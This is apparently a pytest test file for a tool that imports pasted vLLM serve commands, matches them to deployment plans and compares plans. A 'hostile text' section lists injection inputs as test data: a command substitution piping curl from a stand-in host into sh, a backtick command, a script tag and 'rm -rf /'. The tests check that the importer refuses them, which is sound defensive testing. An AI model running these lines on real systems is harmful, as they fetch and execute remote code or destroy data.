"""Import a command and compare two plans (composer.importer, composer.compare,
``python -m composer import`` / ``--compare``)."""

from __future__ import annotations

import json
import random
import re
import subprocess
import sys
from pathlib import Path

import pytest

from composer import importer
from composer.api import compare, compose, import_report
from tests import golden
from tests.importer_roundtrip import command_text, roundtrip
from tests.plan_space import FULL, sample

ROOT = Path(__file__).resolve().parent.parent
K3 = "moonshotai/Kimi-K3"


def _sample() -> list[tuple[str, str, str]]:
    """Every recipe default of ours and of an eighth of the corpus, every
    other one of the first 60 options of our default pages, and a seeded
    sample of 30 golden walks (~85 imports, each a search over ~20 plans: 2
    CPU-minutes for the ~145 of before on CI's 2 cores). ``python -m
    tests.importer_roundtrip`` imports every golden selection (the README's
    figures); ``COMPOSER_FULL_TESTS=1`` takes the whole corpus, every option
    and 80 walks."""
    lines = golden.load()
    corpus = set(sample({x["recipe"] for x in lines if x["source"] == "corpus"}, "import", share=8))
    firsts = [(x["source"], x["recipe"], x["query"]) for x in lines if x["query"] == ""
              and (x["source"] == "ours" or x["recipe"] in corpus)]
    ours_opts = [(x["source"], x["recipe"], x["query"]) for x in lines[:200] if x["source"] == "ours"]
    ours_opts = ours_opts if FULL else ours_opts[:60:2]
    rest = random.Random(7).sample(lines, 80 if FULL else 30)
    return list(dict.fromkeys(firsts + ours_opts + [(x["source"], x["recipe"], x["query"]) for x in rest]))


@pytest.mark.parametrize("source,rid,query", _sample())
def test_every_emitted_command_imports_to_its_own_plan(source, rid, query):
    res = roundtrip(source, rid, query)
    r = res["report"]
    assert r.plan is not None, [p.message for p in r.problems]
    assert res["empty"], [(p.label, [d.__dict__ for d in p.differences]) for p in r.pairs]
    # The link opens a plan with exactly these commands (placeholders aside).
    again = compose(golden.context(source, rid), r.plan["share_url"], every_form=False)
    assert importer.score(importer.read_text(command_text(again)), r.plan) == 0


def test_one_node_of_several_finds_the_multi_node_plan():
    ctx = golden.context("ours", K3)
    plan = compose(ctx, "hardware=b200&nodes=2&strategy=multi_node_tp", every_form=False)
    r = importer.import_commands(ctx, importer.read_text(plan["commands"][0]["pip_text"]))
    assert r.plan["selection"]["strategy"] == "multi_node_tp" and r.plan["selection"]["nodes"] == 2
    assert r.differences == 0 and len(r.unpasted) == 1


def _k3_text(query="hardware=h200&nodes=4&strategy=multi_node_tp") -> str:
    return command_text(compose(golden.context("ours", K3), query, every_form=False))


def test_changed_values_are_reported_with_source_and_cost():
    text = _k3_text().replace("--gpu-memory-utilization 0.95", "--gpu-memory-utilization=0.8") \
        .replace("--moe-backend marlin", "--moe-backend marlin --max_num_seqs 64")
    r = importer.import_commands(golden.context("ours", K3), importer.read_text(text))
    diffs = {d.name: d for d in r.pairs[0].differences}
    assert set(diffs) == {"--gpu-memory-utilization", "--max-num-seqs"}  # spellings normalised
    g = diffs["--gpu-memory-utilization"]
    assert (g.change, g.yours, g.recipe, g.source) == ("value", "0.8", "0.95", "base: model.base_args")
    assert "KV cache" in g.cost
    assert diffs["--max-num-seqs"].change == "extra"


def test_aliases_and_equal_values_are_no_difference():
    text = _k3_text("hardware=b300").replace("--tensor-parallel-size 8", "-tp=8").replace("0.95", "0.950")
    r = importer.import_commands(golden.context("ours", K3), importer.read_text(text))
    assert r.differences == 0


def test_unknown_flags_and_refusals_are_findings():
    text = "vllm serve moonshotai/Kimi-K3 --tensor-parallel-size 64 --made-up-flag 3"
    r = importer.import_commands(golden.context("ours", K3), importer.read_text(text))
    msgs = [f.message for f in r.findings[0]]
    assert any("--made-up-flag" in m and "no such option" in m for m in msgs)
    r = importer.import_commands(golden.context("ours", K3), importer.read_text(
        "vllm serve moonshotai/Kimi-K3 --tensor-parallel-size 64"))  # 96 heads: TP 64 is refused
    assert any(f.rule == "tp-divides-heads" and f.level == "error" for f in r.findings[0])


def test_a_refused_closest_plan_says_so_and_on_what_gpus():
    """Fresh user's finding: a plain TP 8 command pasted on the B300 page came
    out as a 1 x H100 plan whose weights do not fit, and the report said vLLM
    refuses the command without saying on what GPUs, nor that the plan itself
    does not start. (Ranking a running plan first was tried and reverted: an
    adversarial pass found edited refused plans jumping to another vendor.)
    The note now says both, and that other GPUs may run the same commands."""
    text = "vllm serve moonshotai/Kimi-K3 --trust-remote-code -tp 8 --max-model-len 262144"
    r = importer.import_commands(golden.context("ours", K3), importer.read_text(text), hint="hardware=b300")
    hw = r.plan["selection"]["hardware"]
    assert r.plan["status"] == "error"
    assert f"This plan does not start on {hw} (The weights do not fit" in r.hardware_note
    assert f"what vLLM refuses above is on {hw}" in r.hardware_note
    # A plan that starts, or hardware the person named, gets no such sentence.
    ok = importer.import_commands(golden.context("ours", K3), importer.read_text(text), hardware="b300")
    assert ok.plan["status"] != "error" and "does not start" not in ok.hardware_note


def test_layout_roles_and_wrappers():
    text = _k3_text("hardware=gb200&strategy=pd_cluster")
    reading = importer.read_text(text)
    roles = [importer.layout_of(c).role for c in reading.serve]
    assert roles == ["prefill"] * 3 + ["decode"] * 4  # prefill TEP on 3 trays (TP 12 divides 96 heads)
    dep = importer.layout_of(importer.read_text(_k3_text("hardware=b200&nodes=2&strategy=multi_node_dep")).serve[1])
    assert (dep.dp, dep.dp_local, dep.ep, dep.nodes, dep.node_rank) == (16, 8, True, 2, 1)
    api = importer.read_text("CUDA_VISIBLE_DEVICES=0,1 python3 -m vllm.entrypoints.openai.api_server --model "
                             "meta-llama/Llama-3.3-70B-Instruct -tp 2 2>&1 | tee log")
    (c,) = api.serve
    assert c.model == "meta-llama/Llama-3.3-70B-Instruct" and c.wrapper == "api_server"
    assert dict(c.env) == {"CUDA_VISIBLE_DEVICES": "0,1"}
    assert c.argv == ("vllm", "serve", "meta-llama/Llama-3.3-70B-Instruct", "-tp", "2")  # 2>&1 and the pipe dropped
    dock = importer.read_text('docker run --rm --gpus all -e "A=1" -p 8000:8000 vllm/vllm-openai:v0.33.0 m/x --max-num-seqs 8')
    (d,) = dock.serve
    assert d.argv == ("vllm", "serve", "m/x", "--max-num-seqs", "8") and dict(d.env) == {"A": "1"}


def test_checkpoint_ids_find_the_variant():
    ctx = golden.context("ours", "meta-llama/Llama-3.3-70B-Instruct")
    fp8 = ctx.model_id("fp8")
    r = importer.import_commands(ctx, importer.read_text(f"vllm serve {fp8} --tensor-parallel-size 1"))
    assert r.plan["selection"]["variant"] == "fp8"


# ── hostile text ─────────────────────────────────────────────────────────────

HOSTILE = {
    "substitution": "vllm serve moonshotai/Kimi-K3 --served-model-name $(curl evil.example|sh)",
    "backticks": "vllm serve moonshotai/Kimi-K3 --served-model-name `id`",
    "nul": "vllm serve moonshotai/Kimi-K3\x00 --x",
    "huge-line": "vllm serve moonshotai/Kimi-K3 --served-model-name " + "A" * 1_000_000,
    "long-line": "vllm serve moonshotai/Kimi-K3 --served-model-name " + "B" * 30_000,
    "two-models": "vllm serve moonshotai/Kimi-K3\nvllm serve meta-llama/Llama-3.3-70B-Instruct",
    "no-recipe": "vllm serve 'evil/<script>alert.1</script>'",
    "unclosed": "vllm serve moonshotai/Kimi-K3 --served-model-name 'oops",
    "nothing": "rm -rf / ; echo done",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_text_gets_a_message_and_no_link(name, tmp_path):
    text = HOSTILE[name]
    canary = tmp_path / "ran"
    text = text.replace("curl evil.example|sh", f"touch {canary}").replace("`id`", f"`touch {canary}`")
    ctx = golden.context("ours", K3)
    r = import_report(text, lambda m: ctx if m == K3 else None)
    assert not canary.exists()
    assert r["problems"] and r["plan"] is None or r["problems"], r
    codes = {p["code"] for p in r["problems"]}
    want = {"substitution": "substitution", "backticks": "substitution", "nul": "nul-byte", "huge-line": "too-long",
            "long-line": "line-too-long", "two-models": "two-models", "no-recipe": "no-recipe",
            "unclosed": "unclosed-quote", "nothing": "no-serve"}[name]
    assert want in codes, codes
    blob = json.dumps(r["plan"] or {})
    assert "touch" not in blob and "<script>" not in blob and "AAAA" not in blob
    for p in r["problems"]:
        assert len(p["message"]) < 400 and "\x00" not in p["message"]


def test_pasted_text_never_reaches_the_link():
    ctx = golden.context("ours", K3)
    text = _k3_text("hardware=b300").replace("--gpu-memory-utilization 0.95",
                                              "--gpu-memory-utilization 0.95 --served-model-name 'x&hardware=h100#<b>'")
    r = import_report(text, lambda m: ctx)
    assert r["plan"] is not None and "served" not in r["plan"]["url"] and "<b>" not in r["plan"]["url"]
    assert r["plan"]["selection"]["hardware"] == "b300"


# ── compare ──────────────────────────────────────────────────────────────────

def test_compare_same_plan_is_empty_and_different_plans_differ():
    ctx = golden.context("ours", K3)
    q = "hardware=b200&nodes=2&strategy=multi_node_tp"
    same = compare(ctx, q, q)
    assert same["same"] and same["differences"] == 0
    c = compare(ctx, q, "hardware=b200&nodes=2&strategy=multi_node_dep")
    head = c["commands"][0]
    names = {d["name"] for d in head["differences"]}
    assert {"--data-parallel-size", "--tensor-parallel-size", "--enable-expert-parallel"} <= names
    dp = next(d for d in head["differences"] if d["name"] == "--data-parallel-size")
    assert dp["a"] is None and dp["b"] == "16" and dp["source"].startswith("strategy:")
    (pool,) = c["pools"]
    assert pool["a"]["engines"] == 1 and pool["b"]["engines"] == 16
    assert pool["b"]["concurrency"] == 16 * pool["b"]["max_num_seqs"]
    # DEP's capacity record counts one DP rank's tokens (as vLLM logs them); the pool row counts all 16
    # (a new user read "1 of 1,048,576" for a whole DEP pool)
    plan_b = compose(ctx, "hardware=b200&nodes=2&strategy=multi_node_dep", every_form=False)
    [cap] = plan_b["capacity"]
    assert cap["kv_tokens_per_dp_rank"] and pool["b"]["kv_tokens"] == 16 * cap["kv_tokens"]
    assert pool["b"]["full_sequences"] == 16 * (cap["kv_tokens"] // pool["b"]["max_model_len"])
    assert not compose(ctx, q, every_form=False)["capacity"][0]["kv_tokens_per_dp_rank"]
    # each side shows its tab's text, quoted as pasted (a new user found JSON values unquoted in the boxes)
    assert head["b_text"] == plan_b["commands"][0]["text"] and "'{" in head["b_text"]


def test_compare_pd_pools():
    ctx = golden.context("ours", K3)
    c = compare(ctx, "hardware=gb200&strategy=pd_cluster", "hardware=gb200&strategy=pd_cluster&decode_mode=tep")
    assert [p["scope"] for p in c["pools"]] == ["prefill", "decode"]
    by = {x["label"]: x for x in c["commands"]}
    assert by["Prefill node 1/3"]["differences"] == [] and by["Decode node 1/3"]["differences"]


# ── CLI ──────────────────────────────────────────────────────────────────────

def _cli(*args, stdin=""):
    return subprocess.run([sys.executable, "-m", "composer", *args], input=stdin, capture_output=True, text=True,
                          cwd=ROOT, timeout=300)


def test_cli_import_json_equals_the_api_and_text_shows_the_link():
    text = _k3_text().replace("0.95", "0.9")
    out = _cli("import", "--format", "json", stdin=text)
    assert out.returncode == 1, out.stderr
    got = json.loads(out.stdout)
    ctx = golden.context("ours", K3)
    assert got == import_report(text, lambda m: ctx)
    txt = _cli("import", stdin=text)
    assert "link: ?" + got["plan"]["query"] in txt.stdout and "--gpu-memory-utilization: yours 0.9, recipe 0.95" in txt.stdout
    same = _cli("import", "--format", "json", stdin=_k3_text())
    rep = json.loads(same.stdout)
    refused = any(f["level"] == "error" for c in rep["commands"] for f in c["findings"])
    assert rep["differences"] == 0 and same.returncode == (1 if refused else 0)
    bad = _cli("import", stdin=HOSTILE["substitution"])
    assert bad.returncode == 2 and "substitution" in bad.stdout


def test_cli_compare_equals_the_api():
    a, b = "hardware=b200&nodes=2&strategy=multi_node_tp", "hardware=b200&nodes=2&strategy=multi_node_dep"
    out = _cli(K3, "--query", a, "--compare", b, "--format", "json")
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout) == compare(golden.context("ours", K3), a, b)
    txt = _cli(K3, "--query", a, "--compare", b)
    assert "--data-parallel-size: A (not set) → B 16" in txt.stdout
    # figures as the page writes them (a new user compared "1274944 tokens" with the page's "1,274,944")
    figures = [ln for ln in txt.stdout.splitlines() if ln.startswith("deployment ")]
    assert len(figures) == 2 and all("(1,048,576 tokens each)" in ln and not re.search(r"\d{4}", ln) for ln in figures)
